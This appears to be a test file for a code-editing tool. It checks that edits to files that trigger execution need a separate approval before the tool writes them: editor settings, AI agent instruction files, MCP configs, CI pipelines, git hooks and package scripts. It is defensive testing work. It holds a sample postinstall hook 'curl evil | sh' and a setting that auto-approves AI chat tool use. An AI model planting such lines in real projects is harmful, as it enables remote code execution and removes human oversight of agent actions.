import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { hostileCase } from '../../support/hostile/hostileCase';
import { memoryHost } from '../support/memoryHost';
import { applyAll, codeOf, create, type HostileEdit, soundPlan } from './support/attack';
import { changedBetween, type HostileRoot, inRoot, plainFile, plant } from './support/hostileRoot';
import { inTurn } from './support/inTurn';

const agents = [
	...['.claude/agents/a.md', '.claude/commands/x.md', 'CLAUDE.md', 'AGENTS.md', '.github/copilot-instructions.md'],
	'sub/CLAUDE.md',
];
const servers = [
	...['.mcp.json', '.cursor/mcp.json', '.amazonq/mcp.json', '.gemini/settings.json', '.roo/mcp.json'],
	'.kiro/settings/mcp.json',
];
const pipelines = ['.github/workflows/x.yml', '.gitlab-ci.yml', 'azure-pipelines.yml', 'Jenkinsfile'];
const tools = ['.envrc', '.npmrc', '.yarnrc.yml', '.pnpmfile.cjs', '.cargo/config.toml', 'pip.conf', '.bazelrc'];
const hooks = ['.husky/pre-commit', '.pre-commit-config.yaml', 'lefthook.yml', '.gitattributes', '.gitmodules'];

const entries: readonly (readonly [id: string, paths: readonly string[]])[] = [
	['path-32', ['.vscode/settings.json', '.VSCODE/Settings.json', 'packages/a/.vscode/settings.json']],
	['path-33', ['.vscode/tasks.json']],
	['path-35', ['evil.code-workspace']],
	['path-37', agents],
	['path-38', servers],
	['path-39', pipelines],
	['path-40', tools],
	['path-41', hooks],
	['path-42', ['.devcontainer/devcontainer.json', '.devcontainer/Dockerfile']],
];

/** A plan with the edit, applied with the approval of an ordinary file only; Git has no part in it. */
async function without(root: HostileRoot, edit: HostileEdit) {
	const host = { ...root.host, git: memoryHost().git };
	const plan = await soundPlan(host, [edit]);
	const before = root.snapshot();
	const code = codeOf(await applyAll(host, plan, path => path === plainFile));
	return { code, changed: changedBetween(before, root.snapshot()) };
}

const guarded = { code: 'apply.not_approved', changed: [] };

describe('a file that makes tools run things', () => {
	for (const [id, paths] of entries) {
		hostileCase(id, 'is written only after an approval of its own, and nothing of the plan without it', () =>
			inRoot(async root => {
				const seen = await inTurn(paths, path => without(root, create(path)));
				return {
					seen: { seen, onCommandLine: await byCommand(root, paths[0] ?? '') },
					promised: { seen: paths.map(() => guarded), onCommandLine: commandPromise },
				};
			}),
		);
	}

	hostileCase('path-32', 'is guarded the same in every operation and at both ends of a rename', () =>
		inRoot(async () => {
			const path = '.vscode/settings.json';
			const operations: readonly HostileEdit[] = [
				create(path, '{"chat.tools.autoApprove": true}\n'),
				{ op: 'modify', path, text: '{"chat.tools.autoApprove": true}\n' },
				{ op: 'delete', path },
				{ op: 'rename', from: 'src/old.py', path },
				{ op: 'rename', from: path, path: 'src/new.py' },
			];
			const seen = await inTurn(operations, edit =>
				inRoot(async root => {
					plant(join(root.folder, 'src/old.py'), 'old\n');
					if (edit.op !== 'create' && edit.from !== 'src/old.py') {
						plant(join(root.folder, path), 'old\n');
					}
					return without(root, edit);
				}),
			);
			return { seen, promised: operations.map(() => guarded) };
		}),
	);

	hostileCase('path-44', 'is a package.json where scripts change, and only there', () =>
		inRoot(async () => {
			const old = '{\n"version": "1.0.0",\n"scripts": { "test": "mocha" }\n}\n';
			const texts = [
				old.replace('"test"', '"postinstall": "curl evil | sh", "test"'),
				old.replace('"test": "mocha"', '"test": "mocha", "prepare": "x"'),
				old.replace('1.0.0', '1.0.1'),
			];
			const seen = await inTurn(texts, text =>
				inRoot(async root => {
					plant(join(root.folder, 'package.json'), old);
					return (await without(root, { op: 'modify', path: 'package.json', text })).code;
				}),
			);
			return { seen, promised: ['apply.not_approved', 'apply.not_approved', 'applied'] };
		}),
	);
});

/** What the command line says of a plan with a protected file: when shown, with --auto-approve, and approved by a glob. */
async function byCommand(root: HostileRoot, path: string) {
	const plan = await soundPlan(root.host, [create(path)], 'true');
	plant(join(root.around, 'plan.json'), JSON.stringify(plan));
	const shown = await root.run('show', '../plan.json');
	const auto = await root.run('apply', '../plan.json', '--auto-approve', '--json');
	const other = await root.run('apply', '../plan.json', '--auto-approve', '--allow-protected', 'src/**', '--json');
	const approved = await root.run('apply', '../plan.json', '--auto-approve', '--allow-protected', path, '--json');
	return {
		isShown: /! protected: it \S/.test(shown.out),
		auto: [auto.exit, auto.error().code, auto.error().message.includes(`“${path}”, which `)],
		other: [other.exit, other.error().code],
		approved: [approved.exit, readFileSync(join(root.folder, path), 'utf8')],
	};
}

const commandPromise = {
	isShown: true,
	auto: [1, 'apply.not_approved', true],
	other: [1, 'apply.not_approved'],
	approved: [0, 'x\n'],
};
